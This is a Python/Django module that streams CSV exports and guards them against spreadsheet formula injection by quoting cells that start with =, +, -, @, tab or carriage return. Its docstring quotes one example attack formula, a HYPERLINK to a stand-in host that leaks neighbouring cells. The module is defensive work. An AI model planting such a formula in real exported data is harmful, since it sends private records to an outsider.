"""CSV downloads, one contract for every app: streamed, and safe to open in a spreadsheet.

Cells come from people (a proposal title, a member's name, an answer). A cell starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil.example/?x="&A2,"Open")`` sends the neighbouring cells to a stranger when an
official clicks it. Such text cells get a leading ``'`` (the OWASP "CSV injection" rule), which
spreadsheets show as text; numbers and dates are written as they are.
"""

import csv
from collections.abc import Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal

from django.http import StreamingHttpResponse
from django.utils import translation
from django.utils.http import content_disposition_header

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value) -> object:
    """``value`` as a CSV cell: numbers, dates and ``None`` (empty) unchanged, any other value as
    text, with a leading ``'`` when the text would start a formula."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class _Echo:
    """A file-like object whose ``write`` returns the line instead of storing it (for streaming)."""

    def write(self, value: str) -> str:
        return value


# Rows are sent in pieces of about this many characters: one write per row made the server's
# per-chunk work (a socket send each) cost more than the rows themselves on 100,000-row exports.
CHUNK_CHARS = 64 * 1024


def csv_lines(header: Iterable, rows: Iterable[Iterable]) -> Iterator[str]:
    """The CSV file in pieces: a UTF-8 byte order mark (spreadsheets then read accents right) and the
    header at once (the download starts before the query has run), then the rows, each cell
    neutralised, about ``CHUNK_CHARS`` at a time."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([neutralise(cell) for cell in header])
    piece, size = [], 0
    for row in rows:
        line = writer.writerow([neutralise(cell) for cell in row])
        piece.append(line)
        size += len(line)
        if size >= CHUNK_CHARS:
            yield "".join(piece)
            piece, size = [], 0
    if piece:
        yield "".join(piece)


def _in_language(lines: Iterator[str], language: str | None) -> Iterator[str]:
    # The server iterates a streaming response after the view returned: labels computed on the way
    # (status names) must still be in the language of the person who asked.
    with translation.override(language):
        yield from lines


def csv_response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A CSV download streamed row by row: ``rows`` may be an iterator (a ``QuerySet.iterator()``
    or a generator), so an export of 100,000 rows never sits in memory at once.

    The query behind ``rows`` runs while the response streams, after the view returned.
    """
    response = StreamingHttpResponse(
        _in_language(csv_lines(header, rows), translation.get_language()),
        content_type="text/csv; charset=utf-8",
    )
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    return response
